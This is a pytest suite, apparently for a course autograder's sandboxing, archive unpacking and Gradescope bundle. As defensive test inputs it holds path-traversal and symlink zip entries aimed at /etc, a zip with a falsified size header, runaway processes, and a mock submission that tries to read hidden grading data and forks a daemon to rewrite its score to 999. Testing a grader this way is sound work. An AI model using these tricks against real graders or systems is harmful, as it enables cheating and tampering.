    assert result["student"] == "png_bomb" and failed(result) == {"files"}
    assert "eval_accuracy" not in {c["name"] for c in result["checks"]}  # no evaluation set given: not graded
    (tmp_path / "r").mkdir()
    (tmp_path / "r" / "png_bomb.json").write_text(proc.stdout)
    proc = subprocess.run([sys.executable, "-m", "helpers.course.grading", "combine", "rpz", str(tmp_path / "r"),
                           "--out", str(tmp_path / "reports")], env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "reports" / "feedback" / "png_bomb.md").is_file()
    (tmp_path / "empty.npz").write_bytes(b"")
    np.savez(tmp_path / "cifar.npz", images=np.zeros((3, 32, 32, 3), np.uint8), labels=np.zeros(3, np.int64))
    np.save(tmp_path / "array.npy", np.zeros(3))
    for args, words in (([str(tmp_path / "typo.zip")], "no such hand-in"),
                        ([str(batch["subs"] / "correct.zip"), "--eval-set", str(tmp_path / "empty.npz")], "is empty"),
                        ([str(batch["subs"] / "correct.zip"), "--eval-set", str(tmp_path / "cifar.npz")],
                         "expected an .npz with 'images'"),
                        ([str(batch["subs"] / "correct.zip"), "--eval-set", str(tmp_path / "array.npy")], "expected")):
        proc = one(*args)
        assert proc.returncode == 2 and words in proc.stderr, (args, proc.stderr)
        assert len(proc.stderr.strip().splitlines()) == 1 and "Traceback" not in proc.stderr


def test_output_folder_is_never_shared_silently(batch):
    with pytest.raises(GradingError, match="already holds grades.csv"):
        R.check_output_folder(batch["out"], [batch["subs"]], force=False)
    with pytest.raises(GradingError, match="inside the hand-ins"):
        R.check_output_folder(batch["subs"] / "out", [batch["subs"]], force=True)


def test_without_bubblewrap_the_grader_refuses_unless_told_no_isolation(tmp_path, monkeypatch, capsys):
    from helpers.course.grading import cli

    monkeypatch.setattr(sandbox, "bwrap_problem", lambda drop=False: "bubblewrap (bwrap) is not installed")
    (tmp_path / "subs" / "ada").mkdir(parents=True)
    (tmp_path / "subs" / "ada" / "numpy_nn.py").write_text(NUMPY_NN)
    assert cli.main(["rpz", str(tmp_path / "subs"), "--out", str(tmp_path / "out"), "--quiet"]) == 2
    assert "cannot be isolated here: bubblewrap (bwrap) is not installed" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()
    assert "NOT isolated (--no-isolation)" in cli.isolation_line(no_isolation=True)


def test_no_isolation_grades_the_same_and_says_so(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "ada").mkdir()
    (subs / "ada" / "numpy_nn.py").write_text(mutate(NUMPY_NN, *WRONG_LAYERS["wrong_se"][1:]))
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT)}
    proc = subprocess.run([sys.executable, "-m", "helpers.course.grading", "rpz", str(subs), "--out",
                           str(tmp_path / "out"), "--no-isolation", "--quiet", "--test-limit", "50"], env=env,
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert "student code: NOT isolated (--no-isolation)" in (tmp_path / "out" / "summary.txt").read_text()
    result = json.loads((tmp_path / "out" / "results" / "ada.json").read_text())
    assert failed(result) & set(RPZ_LAYER_CHECKS) == {"se_backward"}


# --------------------------------------------------------------------------- unpacking, data, config


def test_unpack_refuses_unsafe_archives(tmp_path):
    def zipped(name, **attrs):
        path = tmp_path / f"{len(list(tmp_path.iterdir()))}.zip"
        with zipfile.ZipFile(path, "w") as z:
            info = zipfile.ZipInfo(name)
            for k, v in attrs.items():
                setattr(info, k, v)
            z.writestr(info, "x")
        return path

    cases = {"/etc/evil": "absolute", "a/../../evil": "'..'", "C:/evil": "absolute"}
    for name, reason in cases.items():
        with pytest.raises(UnsafeSubmission, match=reason):
            unpack(zipped(name), tmp_path, 1 << 20, 10)
    with pytest.raises(UnsafeSubmission, match="symbolic link"):
        unpack(zipped("link", external_attr=(stat.S_IFLNK | 0o777) << 16), tmp_path, 1 << 20, 10)
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "link.py").symlink_to("/etc/passwd")
    with pytest.raises(UnsafeSubmission, match="symbolic link"):
        unpack(folder, tmp_path / "dest", 1 << 20, 10)
    (tmp_path / "linked_folder").symlink_to("/etc")
    with pytest.raises(UnsafeSubmission, match="symbolic link"):
        unpack(tmp_path / "linked_folder", tmp_path / "dest", 1 << 20, 10)
    with pytest.raises(UnsafeSubmission, match="not a readable zip"):
        (tmp_path / "fake.zip").write_text("not a zip")
        unpack(tmp_path / "fake.zip", tmp_path, 1 << 20, 10)


def test_unpack_counts_real_bytes_when_the_header_lies(tmp_path):
    path = tmp_path / "liar.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("big.bin", bytes(4 << 20))
    data = bytearray(path.read_bytes())
    # Rewrite the declared uncompressed size (central directory) to 1 byte.
    cd = data.rfind(b"PK\x01\x02")
    data[cd + 24:cd + 28] = (1).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    dest = tmp_path / "dest"
    dest.mkdir()
    with pytest.raises(UnsafeSubmission):
        unpack(path, dest, 1 << 20, 10)
    assert sum(f.stat().st_size for f in dest.rglob("*") if f.is_file()) <= 2 << 20


def test_image_sets_are_data_only_and_refused_in_one_line(tmp_path):
    np.savez(tmp_path / "objects.npz", images=np.array([object()]), labels=np.zeros(1, dtype=np.int64))
    with pytest.raises(GradingError, match="'images'|not readable"):
        load_image_set(tmp_path / "objects.npz")
    np.savez(tmp_path / "shape.npz", images=np.zeros((3, 32, 32), np.uint8), labels=np.zeros(3, np.int64))
    with pytest.raises(GradingError, match=r"expected an .npz with 'images' \(uint8, \(N, 28, 28\)\)"):
        load_image_set(tmp_path / "shape.npz")
    np.savez(tmp_path / "none.npz", images=np.zeros((0, 28, 28), np.uint8), labels=np.zeros(0, np.int64))
    with pytest.raises(GradingError, match="holds no images"):
        load_image_set(tmp_path / "none.npz")
    (tmp_path / "text.npz").write_text("labels,images\n")
    with pytest.raises(GradingError, match="not readable"):
        load_image_set(tmp_path / "text.npz")
    with pytest.raises(GradingError, match="not found"):
        load_image_set(tmp_path / "absent.npz")
    images, labels = load_dataset("mnist", "test")
    arrays = make_eval_set(images, labels, seed=1, n=50)
    assert arrays["images"].shape == (50, 28, 28) and not np.array_equal(arrays["images"], images[arrays["source"]])
    loaded = load_image_set(save_image_set(tmp_path / "eval.npz", **{k: v for k, v in arrays.items() if k != "source"}))
    assert np.array_equal(loaded.labels, arrays["labels"])


def test_public_split_is_seeded_and_sized():
    a, b = public_mask(1000, 0.1, seed=5), public_mask(1000, 0.1, seed=5)
    assert a.sum() == 100 and np.array_equal(a, b) and not np.array_equal(a, public_mask(1000, 0.1, seed=6))
    assert public_mask(10, 1.0, seed=0).all()


def test_the_clean_test_set_is_a_seeded_sample_of_the_configured_size():
    config = load_config("rpz")
    config["test_images"] = 100
    data, again = load_grading_data(config), load_grading_data(config)
    assert len(data.test.labels) == 100 and np.array_equal(data.test.images, again.test.images)


def test_config_errors_are_one_line(tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"course": "cs7643", "checks": {}}))
    with pytest.raises(GradingError, match="is for course 'cs7643', not 'rpz'"):
        load_config("rpz", bad)
    bad.write_text("[1, 2]")
    with pytest.raises(GradingError, match="is for course None"):
        load_config("rpz", bad)
    with pytest.raises(GradingError, match="unknown limit"):
        parse_limits(["timeout=3"])
    assert pickle.loads(pickle.dumps(load_config("rpz")))["limits"]["threads"] == 1


def test_files_in_a_folder_are_pointed_out_and_ids_must_not_collide(tmp_path):
    config = load_config("rpz")
    data = GradingData(ImageSet(np.zeros((4, 28, 28), np.uint8), np.zeros(4, np.int64), "test"),
                       split={"test": np.ones(4, dtype=bool)})
    path = tmp_path / "nested.zip"
    with zipfile.ZipFile(path, "w") as z:
        for name in RPZ_FILES:
            z.writestr(f"rpz/{name}", "x")
    r = grade_submission("rpz", path, config, data)
    assert "numpy_nn.py is missing at the zip root (found rpz/numpy_nn.py" in check(r, "files")["message"]
    assert r["score"] == 0 and "eval_accuracy" not in {c["name"] for c in r["checks"]}
    (tmp_path / "subs").mkdir()
    (tmp_path / "subs" / "ada lovelace.zip").write_bytes(path.read_bytes())
    (tmp_path / "subs" / "ada_lovelace").mkdir()
    with pytest.raises(GradingError, match="would share the student id 'ada_lovelace'"):
        find_submissions(tmp_path / "subs")


def test_a_grader_killed_mid_batch_leaves_nothing_running(tmp_path):
    """The grader itself killed (an instructor's kill -9, an out-of-memory killer) while a hand-in spins: its
    workers and every sandbox they started end with it, instead of spinning on for the next 40 minutes."""
    token = f"{TOKEN}-orphan"
    subs = tmp_path / "subs"
    (subs / "spinner").mkdir(parents=True)
    (subs / "spinner" / "numpy_nn.py").write_text(after_future(
        f"import subprocess, sys, time\nsubprocess.Popen([sys.executable, '-c', 'while True: pass', '{token}'])\n"
        "time.sleep(3600)\n"))
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT)}
    grader = subprocess.Popen([sys.executable, "-m", "helpers.course.grading", "rpz", str(subs), "--out",
                               str(tmp_path / "out"), "--quiet", "--test-limit", "20", "--limit", "numpy_timeout_s=300"],
                              env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        assert wait_for(lambda: running(token), timeout=120), "the hand-in never started spinning"
        grader.kill()
        grader.wait()
        assert wait_for(lambda: not running(token), timeout=20), "a hand-in's process outlived the grader"
    finally:
        grader.kill()
        for pid in running(token):
            os.kill(pid, 9)


def test_a_worker_that_dies_costs_its_hand_in_only(tmp_path):
    """The pool itself: a worker killed from outside mid-grading (what a hand-in run without isolation could do)."""
    import multiprocessing

    config = load_config("rpz", limits=parse_limits(["numpy_timeout_s=60"]))
    data = load_grading_data(config, test_limit=20)
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "a_sleeper").mkdir()
    (subs / "a_sleeper" / "numpy_nn.py").write_text(after_future("import time\ntime.sleep(120)\n"))
    (subs / "b_fine").mkdir()
    (subs / "b_fine" / "numpy_nn.py").write_text(NUMPY_NN)

    def kill_the_worker():
        assert wait_for(multiprocessing.active_children, timeout=60)
        time.sleep(8)   # the worker is importing a_sleeper's numpy_nn.py, which sleeps
        for child in multiprocessing.active_children():
            child.kill()

    killer = threading.Thread(target=kill_the_worker)
    killer.start()
    results = {r["student"]: r for r in grade_all("rpz", find_submissions(subs), config, data, workers=1, progress=False)}
    killer.join()
    assert "was killed" in results["a_sleeper"]["note"] and results["a_sleeper"]["score"] == 0
    assert not failed(results["b_fine"]) & set(RPZ_LAYER_CHECKS)


# --------------------------------------------------------------------------- CS7643


def cs7643_zip(path: Path, predictions: np.ndarray | None, broken_log=False, original=False, folder="") -> Path:
    """A 2_pytorch.zip in the workbook's layout, or the original assignment's (``original``), under ``folder``."""
    from helpers.course import submission as S

    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(
        "1 + 1", outputs=[nbformat.v4.new_output("execute_result", {"text/plain": "2"}, execution_count=1)])])
    with zipfile.ZipFile(path, "w") as z:
        def put(name, content):
            z.writestr(folder + name, content)

        if original:
            for model in ("softmax", "twolayernn", "convnet", "mymodel"):
                put(f"models/{model}.py", "import torch\n")
                put(f"run_{model}.sh", "python -u train.py | tee log\n")
            put("train.py", "print('train')\n")
            put("filter-viz.ipynb", nbformat.writes(nb))
        else:
            for rel in S.CS7643_CODE + S.CS7643_SCRIPTS:
                z.write(REPO_ROOT / rel, folder + rel)
            put(S.FILTER_NOTEBOOK, nbformat.writes(nb))
            put("08_filter_visualization.pdf", b"%PDF-1.4\n")
        for name in S.cs7643_outputs():
            if name.endswith(".png"):
                put(name, png())
            elif name.endswith(".log"):
                last = "\nTest set: Average loss: 1.1000, Accuracy: 6000/10000 (60%)\n\n" if original else \
                    "test accuracy: 0.6\n"
                put(name, "epoch 1\n" + ("" if broken_log and name == "convnet.log" else last))
            else:
                put(name, "what I tried\n")
        put(S.CS7643_PDF, b"%PDF-1.4\n")
        if predictions is not None:
            put("predictions.csv", "id,label\n" + "".join(f"{i},{v}\n" for i, v in enumerate(predictions)))
    return path


def test_cs7643_batch_scores_predictions_with_a_hidden_private_part(tmp_path):
    config = load_config("cs7643")
    data = load_grading_data(config)
    labels = data.test.labels
    subs = tmp_path / "subs"
    subs.mkdir()
    rng = np.random.default_rng(0)
    good = labels.copy()
    wrong = rng.permutation(len(labels))[:len(labels) // 5]
    good[wrong] = (good[wrong] + 1) % 10  # 80% right
    cs7643_zip(subs / "good.zip", good)
    cs7643_zip(subs / "original.zip", good, original=True, folder="2_pytorch/")   # the assignment's own layout
    cs7643_zip(subs / "chance.zip", rng.integers(0, 10, len(labels)), broken_log=True)
    cs7643_zip(subs / "short.zip", good[:-1])
    results = {r["student"]: r for r in grade_all("cs7643", find_submissions(subs), config, data, progress=False)}
    assert failed(results["good"]) == set() and results["good"]["score"] == 16
    assert failed(results["original"]) == set(), [c["message"] for c in results["original"]["checks"] if not c["passed"]]
    assert results["good"]["metric"]["value"] == pytest.approx(0.8, abs=0.01)
    assert {"q8_7_convnet", "beats_chance", "beats_instructor"} <= failed(results["chance"])
    assert "convnet.log its last line is not the test accuracy" in check(results["chance"], "q8_7_convnet")["message"]
    assert f"expected one per test image, {len(labels)}" in check(results["short"], "predictions")["message"]
    R.write_reports(list(results.values()), config, tmp_path / "out")
    page = (tmp_path / "out" / "leaderboard.html").read_text()
    m = results["good"]["metric"]
    assert f"{m['public']:.4f}" in page and f"{m['private']:.4f}" not in page and "not shown" in page
    assert data.split["test"].sum() == round(0.1 * len(labels))


def test_cs7643_original_layout_names_what_is_missing(tmp_path):
    path = cs7643_zip(tmp_path / "o.zip", None, original=True)
    root = tmp_path / "u"
    root.mkdir()
    zipfile.ZipFile(path).extractall(root)
    (root / "run_convnet.sh").unlink()
    problems = C.problems_with(C.hand_in_root(root), C.question_files("convnet", workbook_layout=False))
    assert problems == ["scripts/run_convnet.sh (or run_convnet.sh) is missing"]


def test_cs7643_predictions_take_class_names_and_refuse_bad_rows(tmp_path):
    path = tmp_path / "p.csv"
    path.write_text("ID,Label\n0,cat\n1,3\n")
    assert C.read_predictions(path, 2).tolist() == [3, 3]
    path.write_text("id,label\n0,cat\n1,12\n")
    with pytest.raises(ValueError, match="row 3: label 12 is not in 0..9"):
        C.read_predictions(path, 2)


# --------------------------------------------------------------------------- Gradescope


def validate_gradescope(results: dict) -> None:
    """The fields of Gradescope's documented results.json format, with their types."""
    visibilities = ("hidden", "after_due_date", "after_published", "visible")
    assert isinstance(results["score"], (int, float))
    assert isinstance(results.get("execution_time", 0), int)
    assert results.get("visibility", "visible") in visibilities
    assert results.get("stdout_visibility", "visible") in visibilities
    for t in results["tests"]:
        assert set(t) <= {"score", "max_score", "status", "name", "name_format", "number", "output", "output_format",
                          "tags", "visibility", "extra_data"}
        assert isinstance(t["score"], (int, float)) and isinstance(t["max_score"], (int, float))
        assert 0 <= t["score"] <= t["max_score"] and t["status"] in ("passed", "failed")
        assert isinstance(t["name"], str) and isinstance(t["output"], str) and t["visibility"] in visibilities
    assert results["score"] == sum(t["score"] for t in results["tests"])
    for entry in results.get("leaderboard", []):
        assert set(entry) <= {"name", "value", "order"} and isinstance(entry["name"], str)
        assert isinstance(entry["value"], (int, float, str)) and entry.get("order", "desc") in ("asc", "desc")


@pytest.fixture(scope="module")
def bundle(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("gradescope")
    path = tmp / "autograder.zip"
    images, labels = load_dataset("mnist", "test")
    arrays = make_eval_set(images, labels, seed=4, n=100)
    arrays.pop("source")
    eval_path = save_image_set(tmp / "eval.npz", **arrays)
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT)}
    proc = subprocess.run([sys.executable, "-m", "helpers.course.grading", "gradescope-bundle", "rpz", "--out", str(path),
                           "--test-limit", "100", "--eval-set", str(eval_path), "--limit", "numpy_timeout_s=8"],
                          env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    return path


def gradescope_run(tmp_path: Path, bundle: Path, files: dict) -> tuple[dict, Path, subprocess.CompletedProcess]:
    """Lay the bundle and a submission out as Gradescope does; run ``run_autograder``; its results and root."""
    root = tmp_path / "root"
    source, submission, results = (root / "autograder" / n for n in ("source", "submission", "results"))
    with zipfile.ZipFile(bundle) as z:
        assert {"setup.sh", "run_autograder", "helpers/course/grading/cli.py", "grading_data/eval.npz"} <= set(z.namelist())
        assert "bubblewrap" in z.read("setup.sh").decode()
        z.extractall(source)
    submission.mkdir()
    results.mkdir()
    for name, content in files.items():   # Gradescope unpacks the student's upload there
        (submission / name).write_bytes(content.encode() if isinstance(content, str) else content)
    run = source / "run_autograder"
    run.chmod(0o755)
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}  # the bundle's own copy of the grader
    proc = subprocess.run([str(run)], env={**env, "GRADESCOPE_ROOT": str(root), "PYTHON": sys.executable},
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    return json.loads((results / "results.json").read_text()), root, proc


def test_gradescope_bundle_runs_on_a_laid_out_submission(tmp_path, bundle):
    _, old, new = WRONG_LAYERS["wrong_se"]
    out, _, _ = gradescope_run(tmp_path, bundle, rpz_files(numpy_nn=mutate(NUMPY_NN, old, new)))
    validate_gradescope(out)
    by_name = {t["name"]: t for t in out["tests"]}
    assert by_name["SE.backward against the reference"]["status"] == "failed"
    assert out["score"] == 11 and out["leaderboard"][0]["name"] == "Accuracy" and out["leaderboard"][0]["value"] > 0.85


def test_gradescope_submission_reads_no_grading_data_and_rewrites_no_result(tmp_path, bundle):
    """The student's code looks for the labels and the reference solution beside it, and leaves a daemon that
    rewrites results.json after the grader wrote it (as one did under the old runner: score 4 -> 999)."""
    root = tmp_path / "root"
    source = root / "autograder" / "source"
    targets = [str(source / "grading_data" / "eval.npz"), str(source / "helpers" / "numpy_nn.py"),
               str(source / "grading_data" / "config.json")]
    spy = after_future(f"""
import os, sys
for _path in {targets!r}:
    try:
        open(_path, "rb").read(1)
        raise RuntimeError("leaked: " + _path)
    except OSError:
        pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import json, time\\ntime.sleep(8)\\n"
                 "json.dump({{'score': 999}}, open({str(root / 'autograder' / 'results' / 'results.json')!r}, 'w'))",
                 "{TOKEN}-gs"])
    os._exit(0)
""")
    out, root, _ = gradescope_run(tmp_path, bundle, rpz_files(numpy_nn=spy))
    assert not [t for t in out["tests"] if t["status"] == "failed" and "leaked" in t["output"]]
    assert out["score"] == 12
    assert not running(f"{TOKEN}-gs")
    time.sleep(10)
    assert json.loads((root / "autograder" / "results" / "results.json").read_text()) == out
    if os.geteuid() == 0:
        assert stat.S_IMODE((root / "autograder" / "source").stat().st_mode) == 0o700


def test_the_grader_is_withheld_from_the_student_copy():
    from helpers.course.release.files import is_withheld

    for path in ("helpers/course/grading/cli.py", "helpers/course/grading/runners/numpy_layers.py",
                 "helpers/course/grading/make_eval_set.py", "helpers/course/grading/rpz.json",
                 "tests/test_grade.py", "benchmarks/grade_throughput.py"):
        assert is_withheld(path), path
    for path in ("helpers/numpy_nn.py", "helpers/pytorch/robustness.py", "helpers/course/sandbox.py",
                 "helpers/course/runner.py", "helpers/course/runners/rpz_handin.py"):
        assert not is_withheld(path), path
